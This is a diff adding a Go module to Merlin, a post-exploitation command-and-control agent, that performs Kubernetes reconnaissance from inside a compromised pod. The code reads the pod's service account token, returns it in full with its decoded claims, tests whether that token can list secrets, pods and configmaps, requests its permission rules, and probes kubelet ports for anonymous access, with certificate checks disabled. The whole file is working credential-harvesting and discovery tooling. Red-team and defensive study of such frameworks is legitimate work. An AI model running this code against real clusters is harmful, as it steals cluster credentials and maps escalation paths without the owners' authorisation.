@@ -0,0 +1,213 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"crypto/tls"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	merlinOS "github.com/Ne0nd0g/merlin-agent/os"
+)
+
+// serviceAccount is the directory Kubernetes mounts the pod's service account credentials in
+const serviceAccount = "/var/run/secrets/kubernetes.io/serviceaccount"
+
+// kubeClient is used for Kubernetes API and kubelet requests; cluster certificates are not verified because the
+// goal is to determine reachability and permissions
+var kubeClient = &http.Client{
+	Timeout: 5 * time.Second,
+	Transport: &http.Transport{
+		// #nosec G402 -- Cluster certificates are self-signed
+		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
+		Proxy:           nil,
+	},
+}
+
+// Kubernetes enumerates the pod's service account credentials, the Kubernetes API server and the service account's
+// permissions, and kubelet reachability. Optional arguments are the kubelet hosts to check, the default gateways
+// are checked if none are provided because the gateway is commonly the node the pod is running on.
+func Kubernetes(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Kubernetes() with %+v", cmd))
+	}
+	var findings []FindingRecord
+	add := func(category, name, value string) {
+		findings = append(findings, FindingRecord{Category: category, Name: name, Value: value})
+	}
+
+	// Service account
+	namespace := "default"
+	var token string
+	if data, err := os.ReadFile(filepath.Join(serviceAccount, "namespace")); err == nil {
+		namespace = strings.TrimSpace(string(data))
+		add("serviceaccount", "Namespace", namespace)
+	}
+	if data, err := os.ReadFile(filepath.Join(serviceAccount, "token")); err == nil {
+		token = strings.TrimSpace(string(data))
+		add("serviceaccount", "Token", token)
+		add("serviceaccount", "Token Claims", tokenClaims(token))
+	}
+	if _, err := os.Stat(filepath.Join(serviceAccount, "ca.crt")); err == nil {
+		add("serviceaccount", "CA Certificate", filepath.Join(serviceAccount, "ca.crt"))
+	}
+
+	// API server
+	api := net.JoinHostPort("kubernetes.default.svc", "443")
+	if host := os.Getenv("KUBERNETES_SERVICE_HOST"); host != "" {
+		api = net.JoinHostPort(host, os.Getenv("KUBERNETES_SERVICE_PORT"))
+	}
+	add("api", "Server", api)
+	status, body, err := kubeRequest(http.MethodGet, fmt.Sprintf("https://%s/version", api), "", nil)
+	if err != nil {
+		add("api", "Reachable", fmt.Sprintf("false: %s", err))
+	} else {
+		add("api", "Reachable", "true")
+		var version struct {
+			GitVersion string `json:"gitVersion"`
+		}
+		if json.Unmarshal(body, &version) == nil && version.GitVersion != "" {
+			add("api", "Version", version.GitVersion)
+		} else {
+			add("api", "Version", fmt.Sprintf("HTTP %d", status))
+		}
+		if token != "" {
+			for _, resource := range []string{"pods", "secrets", "configmaps"} {
+				status, _, err = kubeRequest(http.MethodGet, fmt.Sprintf("https://%s/api/v1/namespaces/%s/%s", api, namespace, resource), token, nil)
+				if err == nil {
+					add("permissions", fmt.Sprintf("List %s", resource), fmt.Sprintf("HTTP %d", status))
+				}
+			}
+			for _, rule := range selfSubjectRules(api, namespace, token) {
+				add("permissions", "Rule", rule)
+			}
+		}
+	}
+
+	// Kubelet
+	hosts := cmd.Args
+	if len(hosts) == 0 {
+		hosts = merlinOS.GetHostInfo().Gateways
+	}
+	for _, host := range hosts {
+		for _, u := range []string{"https://%s/pods", "http://%s/pods"} {
+			port := "10250"
+			if strings.HasPrefix(u, "http:") {
+				port = "10255"
+			}
+			target := fmt.Sprintf(u, net.JoinHostPort(host, port))
+			status, _, err = kubeRequest(http.MethodGet, target, "", nil)
+			if err != nil {
+				continue
+			}
+			// A 200 without credentials means the kubelet allows anonymous access
+			add("kubelet", target, fmt.Sprintf("HTTP %d", status))
+		}
+	}
+
+	results.Stdout = findingsText(findings)
+	structured = newStructured("kubernetes", findings)
+	return
+}
+
+// kubeRequest sends an HTTP request, with the bearer token if provided, and returns the status code and body
+func kubeRequest(method, url, token string, body []byte) (int, []byte, error) {
+	req, err := http.NewRequest(method, url, bytes.NewReader(body))
+	if err != nil {
+		return 0, nil, err
+	}
+	if token != "" {
+		req.Header.Set("Authorization", "Bearer "+token)
+	}
+	if body != nil {
+		req.Header.Set("Content-Type", "application/json")
+	}
+	resp, err := kubeClient.Do(req)
+	if err != nil {
+		return 0, nil, err
+	}
+	defer resp.Body.Close()
+	data, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
+	return resp.StatusCode, data, err
+}
+
+// selfSubjectRules returns the service account's permissions in the namespace from a SelfSubjectRulesReview
+// https://kubernetes.io/docs/reference/access-authn-authz/authorization/#checking-api-access
+func selfSubjectRules(api, namespace, token string) (rules []string) {
+	review := fmt.Sprintf(`{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":%q}}`, namespace)
+	status, body, err := kubeRequest(http.MethodPost, fmt.Sprintf("https://%s/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", api), token, []byte(review))
+	if err != nil || status != http.StatusCreated {
+		return
+	}
+	var result struct {
+		Status struct {
+			ResourceRules []struct {
+				Verbs     []string `json:"verbs"`
+				Resources []string `json:"resources"`
+			} `json:"resourceRules"`
+		} `json:"status"`
+	}
+	if json.Unmarshal(body, &result) != nil {
+		return
+	}
+	for _, rule := range result.Status.ResourceRules {
+		rules = append(rules, fmt.Sprintf("%s: %s", strings.Join(rule.Resources, ","), strings.Join(rule.Verbs, ",")))
+	}
+	return
+}
+
+// tokenClaims returns the unverified claims from a JSON Web Token's payload
+func tokenClaims(token string) string {
+	parts := strings.Split(token, ".")
+	if len(parts) != 3 {
+		return "not a JWT"
+	}
+	claims, err := base64.RawURLEncoding.DecodeString(parts[1])
+	if err != nil {
+		return err.Error()
+	}
+	return string(claims)
+}
+
+// findingsText returns the findings as human-readable text grouped by their category
+func findingsText(findings []FindingRecord) (text string) {
+	var category string
+	for _, f := range findings {
+		if f.Category != category {
+			category = f.Category
+			text += fmt.Sprintf("[%s]\n", category)
+		}
+		text += fmt.Sprintf("  %s: %s\n", f.Name, f.Value)
+	}
+	return
+}